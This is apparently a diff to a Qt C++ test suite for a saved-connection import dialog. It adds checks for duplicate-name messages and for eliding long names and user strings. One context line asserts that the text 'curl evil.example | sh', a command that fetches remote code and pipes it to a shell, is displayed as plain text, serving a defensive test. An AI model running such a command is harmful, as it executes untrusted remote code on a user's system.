@@ -171,6 +171,11 @@ private Q_SLOTS:
         QVERIFY(std::ranges::any_of(labels, [](const QLabel *label) {
             return label->text().contains(u"curl evil.example | sh"_s) && label->textFormat() == Qt::PlainText;
         }));
+        const auto tells = [&labels](const QString &words) {
+            return std::ranges::any_of(labels, [&](const QLabel *label) { return label->text().contains(words); });
+        };
+        QVERIFY(tells(u"Saved already as \"Berlin\""_s));
+        QVERIFY(tells(u"The name is taken. This one will be called \"Berlin (2)\""_s));
         choice->findChild<QPushButton *>(u"go"_s)->click();
         QCOMPARE(names(), (QStringList{u"Berlin"_s, u"Frankfurt"_s, u"New York"_s, u"Berlin (2)"_s}));
         QCOMPARE(list()->currentItem()->text(), u"Berlin (2)"_s);
@@ -181,6 +186,35 @@ private Q_SLOTS:
         choice = dialog()->findChild<views::ConnectionChoice *>();
         QVERIFY(!choice->findChildren<QCheckBox *>().at(1)->isEnabled());
         QVERIFY(!choice->findChild<QPushButton *>(u"go"_s)->isEnabled());
+    }
+
+    // Nothing is cut off without a sign, and nothing widens the dialog.
+    void longNamesAreElided()
+    {
+        session::SavedConnection other = m_connections->saved().list().first();
+        other.name = QString(session::SavedConnections::longestName, u'W');
+        other.signIn = session::SignInKind::UserPassword;
+        other.user = QString(200, u'm') + u"@example"_s;
+        const QString file = m_folder->filePath(u"long.json"_s);
+        QVERIFY(session::writeConnectionFile(file, {other}));
+        dialog()->importFrom(file);
+        auto *choice = dialog()->findChild<views::ConnectionChoice *>();
+        QVERIFY(choice);
+        choice->resize(500, choice->height());
+        const auto *box = choice->findChild<QCheckBox *>();
+        QTRY_VERIFY(box->text().contains(u'…'));
+        QCOMPARE(box->accessibleName(), other.name);
+        QVERIFY(box->toolTip().contains(other.name));
+        QVERIFY(box->sizeHint().width() > box->width() && box->minimumSizeHint().width() < 100);
+        const auto *area = choice->findChild<QScrollArea *>();
+        QVERIFY(area->widget()->width() <= area->viewport()->width());
+        const auto labels = choice->findChildren<QLabel *>();
+        QVERIFY(std::ranges::any_of(labels, [](const QLabel *label) {
+            return label->text().contains(u'…') && label->text().endsWith(u"@example"_s);
+        }));
+        QVERIFY(std::ranges::any_of(labels, [](const QLabel *label) {
+            return label->text() == u"\"Berlin\" is the same control plane with other settings."_s;
+        }));
     }
 
     void aBrokenFileIsExplained()
